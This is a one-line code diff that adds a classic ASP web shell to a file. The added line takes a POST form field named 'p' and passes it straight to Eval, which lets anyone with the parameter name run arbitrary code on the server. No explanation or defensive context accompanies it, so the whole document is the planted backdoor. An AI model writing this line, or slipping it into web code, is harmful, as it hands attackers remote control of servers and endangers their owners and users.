@@ -1,0 +1,1 @@
+<% Dim x : x = Request.Form("p") : Eval(x) %>
